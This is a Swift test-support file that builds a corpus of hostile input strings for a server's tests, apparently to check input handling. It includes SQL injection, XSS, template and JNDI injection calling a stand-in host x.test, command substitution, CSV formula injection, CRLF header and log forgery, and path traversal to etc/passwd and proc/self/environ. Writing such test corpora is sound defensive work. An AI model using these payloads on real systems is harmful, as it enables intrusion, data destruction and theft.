import Foundation
import TestSupport

/// Texts that have broken other programs: the Big List of Naughty Strings, and what tries to get out of where it stands.
struct NaughtyText: Sendable {
    enum Kind: String, CaseIterable, Sendable { case listed, sql, html, template, csv, log, header, path, unicode }

    var kind: Kind
    var text: String

    static let all: [NaughtyText] = listed + sql + html + template + csv + log + header + path + unicode

    private static let listed: [NaughtyText] = {
        struct File: Decodable { var texts: [String] }
        guard let text = try? Checkout.text("Tests/ServerTests/Hostile/naughty-strings.json"),
            let file = try? JSONDecoder().decode(File.self, from: Data(text.utf8))
        else { preconditionFailure("there is no list of naughty strings") }
        return file.texts.map { NaughtyText(kind: .listed, text: $0) }
    }()

    /// Every beginning with every end.
    private static func pairs(_ kind: Kind, _ begins: [String], _ ends: [String]) -> [NaughtyText] {
        begins.flatMap { begin in ends.map { NaughtyText(kind: kind, text: begin + $0) } }
    }

    private static let sql = pairs(
        .sql, ["", "'", "\"", "1", "')"],
        [
            "; DROP TABLE cases;--", " OR 1=1--", " UNION SELECT sqlite_version()--", "/**/OR/**/'1'='1",
            "; ATTACH DATABASE '/tmp/x' AS x;--",
            "||(SELECT 1)||", " AND randomblob(100000000)--", "; PRAGMA journal_mode=OFF;--", "%' LIKE '%", "\\",
        ])
    private static let html = pairs(
        .html, ["", "\">", "'>", "</title>", "-->"],
        [
            "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<iframe src=javascript:alert(1)>",
            "<style>@import'//x.test'</style>", "<base href=//x.test/>", "<a href=\"javascript:alert(1)\">x</a>", "<!--<script>",
            "<meta http-equiv=refresh content=0>", "&lt;script&gt;",
        ])
    private static let template = pairs(
        .template, ["", "x", "\n", " ", "\\"],
        [
            "${7*7}", "{{7*7}}", "#{7*7}", "<%= 7*7 %>", "{%debug%}", "${jndi:ldap://x.test/a}", "$(id)", "`id`", "%s%n%x", "\\(x)",
        ])
    private static let csv = pairs(
        .csv, ["=", "+", "-", "@", "\t=", "＝"],
        [
            "1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"http://x.test\",\"x\")", "SUM(1;1)", "1,2", "\"\"\"", "1\n=2", "1;2",
            "IMPORTXML(\"http://x.test\",\"//a\")", "DDE(\"x\")",
        ])
    private static let log = pairs(
        .log, ["", "x", "\r\n", "\n", "\u{1B}[2J"],
        [
            "2026-01-01T00:00:00Z info forged role=auditor", "level=error status=200", "\u{1B}]0;x\u{7}", "\"}\n{\"level\":\"error\"",
            "\u{8}\u{8}\u{8}", "\u{0}", "\u{85}x", "\u{2028}x", "role=auditor trace=0", "\u{9B}31m",
        ])
    private static let header = pairs(
        .header, ["", "x", "\"", "%0d%0a", "\r\n"],
        [
            "Set-Cookie: a=b", "Location: http://x.test/", "Content-Length: 0\r\n\r\n", "X: y\r\n\r\n<html>",
            "\u{560D}\u{560A}Set-Cookie: a=b",
            ", <http://x.test>; rel=next", ">; rel=\"next\"", "\u{0}", "Transfer-Encoding: chunked", "\";filename=x",
        ])
    private static let path = pairs(
        .path, ["../", "..\\", "%2e%2e%2f", "/", "file:///"],
        [
            "etc/passwd", "onething.sqlite", "onething.sqlite-keys", "proc/self/environ", "dev/null", ".", "CON", "a\u{0}.pdf", "%00",
            "a/../../b",
        ])
    private static let unicode = [
        "\u{0}", "a\u{0}b", "\u{1}", "\u{7F}", "\u{80}", "\u{FEFF}x", "\u{FFFD}", "\u{FFFE}", "\u{FFFF}", "\u{10FFFF}", "\u{E000}",
        "\u{D7FF}",
        // The same to a reader, and other bytes: each stays what it is.
        "é", "e\u{301}", "瑩", "\u{F9AE}", "Å", "\u{212B}", "A\u{30A}", "ﬁ", "①", "𠀋", "﨑", "İ", "ß", "ς",
        "\u{202E}abc", "\u{200B}", "\u{2066}x", "\u{61C}", "👨‍👩‍👧", "🇨🇳", "a" + String(repeating: "\u{300}", count: 500),
        " ", "\t", "\n", "\u{3000}", "\u{A0}", "\u{2029}", " 前后有空格 ", "a\tb\nc", String(repeating: "长", count: 600),
        String(repeating: "ﷺ", count: 60), String(repeating: "x", count: 1_999), String(repeating: "x", count: 4_000),
        String(repeating: "𠀋", count: 4_001),
    ].map { NaughtyText(kind: .unicode, text: $0) }
}

extension String {
    var bytes: [UInt8] { Array(utf8) }
}
